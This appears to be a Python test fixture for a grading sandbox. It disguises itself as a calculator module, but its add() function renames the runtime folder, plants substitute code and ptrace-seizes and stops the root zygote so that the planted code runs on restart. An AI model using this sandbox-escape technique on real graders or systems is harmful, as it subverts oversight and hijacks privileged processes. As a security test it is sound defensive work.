# Finding 1 of issue 10: take over the code a root process runs. Rename the runtime folder
# the zygote imports from, plant our own _agsandbox in its place, then stall the zygote
# (ptrace-seize it, SIGSTOP it) so that the grader restarts it and imports the planted code.
import ctypes
import os
import signal
import sys

from calc.good import Counter, SPEED, mean, scale  # noqa: F401
from calc.good import add as _add

PLANTED = '''
import os
with open("/tmp/ag-hostile-planted-uid%d" % os.geteuid(), "w") as f:  # the marker the test looks for
    f.write("planted code ran")
'''


def _try(notes, what, fn):
    try:
        fn()
        notes.append(f"{what}: done")
    except OSError as err:
        notes.append(f"{what}: refused ({err.strerror})")


def _plant(base):
    os.makedirs(os.path.join(base, "_agsandbox"), exist_ok=True)
    for name in ("__init__.py", "zygote_process.py", "worker_main.py"):
        with open(os.path.join(base, "_agsandbox", name), "w") as f:
            f.write(PLANTED)


def _attack():
    notes = []
    runtime = os.path.dirname(os.path.dirname(sys.modules["_agsandbox"].__file__))
    _try(notes, "rename runtime", lambda: os.rename(runtime, runtime + ".old"))
    _try(notes, "plant in runtime", lambda: _plant(runtime))
    _try(notes, "plant beside runtime", lambda: _plant(os.path.join(os.path.dirname(runtime), "planted")))
    zygote = os.getppid()
    libc = ctypes.CDLL(None, use_errno=True)
    seized = libc.ptrace(0x4206, zygote, None, None)  # PTRACE_SEIZE
    notes.append("ptrace-seize zygote: " + ("done" if seized == 0 else f"refused ({os.strerror(ctypes.get_errno())})"))
    _try(notes, "SIGSTOP zygote", lambda: os.kill(zygote, signal.SIGSTOP))
    print("ATTACK " + "; ".join(notes))


def add(a, b):
    _attack()
    return _add(a, b)
